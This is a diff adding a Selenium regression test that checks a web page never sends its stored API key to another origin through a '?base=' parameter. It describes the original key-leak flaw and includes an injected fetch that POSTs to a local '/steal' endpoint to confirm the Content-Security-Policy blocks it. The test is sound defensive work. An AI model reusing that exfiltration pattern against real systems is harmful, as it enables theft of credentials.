@@ -390,3 +390,63 @@ def test_stats_line_is_reset_on_mode_switch(server, browser):
     _mode(browser, "completion")
     assert _by_id(browser, "stats").text == ""
     assert _severe_console(browser) == []
+
+
+# -- the API key stays with the server that served the page (issue 42) ---------------------------------------------
+
+def test_the_key_never_goes_to_another_origin(server, browser):
+    """Found in the second hostile review: with a key stored, `/?base=https://elsewhere` sent
+    `Authorization: Bearer <key>` to that host on load and with everything typed after. Now the page refuses a
+    base of another origin (and says so), and the server's Content-Security-Policy stops any connection to
+    another origin, even one a script would open. A listener on another port records whatever reaches it."""
+    import threading
+    from selenium.webdriver.support.ui import WebDriverWait
+    trap = socket.socket()
+    trap.bind(("127.0.0.1", 0))
+    trap.listen(8)
+    trap.settimeout(0.2)
+    port, reached, stop = trap.getsockname()[1], [], threading.Event()
+
+    def listen():
+        while not stop.is_set():
+            try:
+                conn, _ = trap.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    reached.append(conn.recv(65536))
+                except OSError:
+                    reached.append(b"")
+    th = threading.Thread(target=listen, daemon=True)
+    th.start()
+    try:
+        _open(browser, server)
+        _set(browser, "api-key", "sk-must-stay-home")
+        browser.get(f"{server}/?base=http://127.0.0.1:{port}")
+        WebDriverWait(browser, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
+        assert "names another server" in _by_id(browser, "error").text
+        browser.execute_script(INSTRUMENT)
+        _set(browser, "prompt", "x")
+        _set(browser, "max_tokens", "2")
+        assert _send_and_wait(browser) == "done"  # the page still works, against its own server
+        urls = browser.execute_script("return window.__requests.map((r) => r.url)")
+        assert urls and not any(str(port) in u for u in urls), urls
+        # a script that tries anyway is stopped by the browser (connect-src 'self')
+        got = browser.execute_async_script(f"""const done = arguments[arguments.length - 1];
+            fetch('http://127.0.0.1:{port}/steal', {{method: 'POST', body: '{{"k": 1}}'}})
+              .then(() => done('sent'), (e) => done('blocked: ' + e));""")
+        assert got.startswith("blocked"), got
+        time.sleep(0.5)
+        assert reached == [], reached  # nothing, not even a connection, reached the other origin
+        assert _severe_console(browser) == [] or all("steal" in m for m in _severe_console(browser))
+        # a base of this same origin (a path prefix) is still taken
+        browser.get(f"{server}/?base={server}/")
+        WebDriverWait(browser, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
+        assert _by_id(browser, "error").text == ""
+    finally:
+        stop.set()
+        th.join(5)
+        trap.close()
+        browser.execute_script("localStorage.clear()")
